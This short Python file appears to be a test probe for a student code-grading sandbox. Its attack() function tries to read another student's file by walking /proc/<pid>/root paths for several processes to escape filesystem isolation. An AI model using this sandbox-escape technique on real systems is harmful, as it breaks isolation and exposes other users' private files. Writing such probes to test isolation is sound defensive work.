"""Reaches another student's file through the root folder of some process."""

import os


def attack(marker, folder, python_path):
    for process in ("self", "1", str(os.getppid()), "thread-self"):
        try:
            return os.read(os.open(f"/proc/{process}/root{marker}", os.O_RDONLY), 100)
        except OSError:
            continue
    raise LookupError("no process shows the file")
